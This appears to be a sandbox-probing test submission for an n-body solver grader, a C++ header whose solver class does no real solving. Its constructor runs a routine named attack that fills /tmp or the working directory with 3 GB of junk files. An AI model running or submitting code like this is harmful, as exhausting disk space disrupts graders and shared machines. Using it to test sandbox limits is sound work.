// Fills the disk with 3 GB in files of 0.5 GB; gives up where it may not.
#pragma once

#include <unistd.h>

#include <cstdio>
#include <string>

#include "naive.hpp"

namespace nbody {

inline bool write_half_a_gigabyte(const std::string& path) {
  std::FILE* file = std::fopen(path.c_str(), "w");
  if (file == nullptr) return false;
  const std::string block(1 << 20, 'x');
  bool all = true;
  for (int k = 0; k < 512 && all; ++k) all = std::fwrite(block.data(), block.size(), 1, file) == 1;
  return std::fclose(file) == 0 && all;
}

inline bool attack() {
  for (const char* folder : {"/tmp", "."}) {
    int written = 0;
    while (written < 6 && write_half_a_gigabyte(std::string(folder) + "/attack_proof_disk_" +
                                                std::to_string(written))) {
      ++written;
    }
    if (written == 6) return true;
  }
  return false;
}

class Mine : public Naive {
 public:
  explicit Mine(const Problem& problem) : Naive(problem) {
    static const bool worked = attack();
    if (!worked) _exit(3);
  }
};

}  // namespace nbody
